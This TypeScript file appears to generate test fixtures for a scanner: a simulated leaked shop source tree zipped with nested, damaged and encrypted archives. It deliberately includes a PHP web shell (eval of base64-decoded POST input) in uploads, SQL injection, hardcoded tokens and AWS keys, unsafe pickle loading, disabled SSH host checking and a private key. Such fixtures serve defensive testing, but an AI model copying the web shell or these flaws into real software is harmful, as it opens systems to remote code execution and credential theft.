import { encryptedZip, gzip, tarball, zip } from "./containers.ts";
import { dice } from "./random.ts";
import { attacker, people, secrets } from "./world.ts";

const server = `import { createServer } from "node:http";
import { query } from "./db.js";

// FIXME: move to the secret store before release
const GITHUB_TOKEN = "${secrets.github}";
const stripe = { key: "${secrets.stripe}" };

export const server = createServer(async (request, response) => {
  const id = new URL(request.url, "http://localhost").searchParams.get("id");
  const rows = await query("SELECT * FROM orders WHERE id = " + id);
  response.end(JSON.stringify(rows));
});
server.listen(8080, "0.0.0.0");
`;

const deploy = `#!/bin/sh
set -e
export AWS_ACCESS_KEY_ID=${secrets.awsId}
export AWS_SECRET_ACCESS_KEY=${secrets.awsKey}
curl -s -X POST -H "Authorization: Bearer ${secrets.slack}" https://hooks.example.com/deploy
ssh -o StrictHostKeyChecking=no deploy@198.51.100.140 'docker pull registry.example.org/shop:latest'
`;

const analysis = `import hashlib
import pickle


def load(path):
    with open(path, "rb") as file:
        return pickle.load(file)  # untrusted input


def fingerprint(text):
    return hashlib.md5(text.encode()).hexdigest()


OWNER = "${people[3].mail}"
`;

const dropper = `<?php
// found in uploads/, see ${attacker.ip}
eval(base64_decode($_POST["c"]));
`;

/** One entry's bytes are changed after the archive was made, as a failing disk does. */
const withOneDamagedFile = async (dice_: ReturnType<typeof dice>): Promise<Buffer> => {
  const archive = await zip(
    { "good.txt": "still here\n", "broken.dat": dice_.bytes(4000), "also-good.txt": "here too\n" },
    ["broken.dat"],
  );
  const at = archive.indexOf("broken.dat") + 2000;
  archive[at] = archive[at]! ^ 0xff;
  return archive;
};

/** A leaked source tree: credentials, a web shell, archives within archives, one damaged, one encrypted. */
export const sourceDrop = async (): Promise<Buffer> => {
  const random = dice(41);
  const vendored = gzip(
    await tarball({
      "left-pad/package.json": `${JSON.stringify({ name: "left-pad", version: "1.3.0", license: "WTFPL" }, null, 2)}\n`,
      "left-pad/index.js": "module.exports = (s, n, c = ' ') => String(s).padStart(n, c);\n",
      "backup/db.sql.gz": gzip(
        `-- dump of shop\nINSERT INTO users VALUES (1, '${people[0].mail}', '$2b$10$SAMPLEsampleSAMPLEsampleSAMPLEsampleSAMPLEsampleSAMPLEsamp');\n`,
      ),
    }),
  );
  return zip({
    "shop/src/server.js": server,
    "shop/src/analysis.py": analysis,
    "shop/deploy.sh": deploy,
    "shop/.env": `DATABASE_URL=${secrets.databaseUrl}\nSTRIPE_KEY=${secrets.stripe}\nDEBUG=true\n`,
    "shop/config/app.yaml": `server:\n  host: 0.0.0.0\n  port: 8080\nadmin:\n  mail: ${people[0].mail}\n  password: sample-password-2\n`,
    "shop/config/id_rsa": `${secrets.privateKey}\n`,
    "shop/uploads/avatar.php": dropper,
    "shop/pom.xml":
      '<?xml version="1.0"?>\n<project><modelVersion>4.0.0</modelVersion><artifactId>shop</artifactId></project>\n',
    "vendor/deps.tar.gz": vendored,
    "vendor/from-old-disk.zip": await withOneDamagedFile(random),
    "vendor/payroll.zip": await encryptedZip(
      "payroll-2026.csv",
      `name,salary\n${people[0].name},1\n`,
      "sample",
      random,
    ),
    "assets/logo.bin": random.bytes(20_000),
  });
};
